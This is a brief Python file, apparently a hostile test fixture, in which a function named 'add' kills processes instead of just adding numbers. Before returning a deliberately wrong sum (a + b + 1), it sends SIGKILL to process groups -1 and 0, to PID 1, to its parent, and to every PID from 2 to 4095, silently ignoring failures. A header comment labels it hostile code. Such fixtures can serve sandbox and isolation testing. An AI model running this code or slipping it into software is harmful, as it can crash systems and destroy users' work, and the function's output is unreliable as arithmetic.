# ruff: noqa: SIM105 - hostile code, kept plain on purpose
import os
import signal


def add(a, b):
    for target in (-1, 0, 1, os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    for pid in range(2, 4096):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return a + b + 1
